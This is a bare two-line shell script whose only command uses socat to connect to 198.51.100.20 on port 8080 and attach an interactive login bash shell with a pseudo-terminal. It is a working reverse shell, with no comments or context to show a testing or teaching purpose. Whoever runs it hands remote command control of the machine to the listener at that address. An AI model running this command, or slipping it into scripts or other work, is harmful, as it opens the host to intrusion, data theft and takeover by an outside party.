#!/bin/sh
socat TCP4:198.51.100.20:8080 EXEC:'bash -li',pty,stderr,setsid,sigint,sane
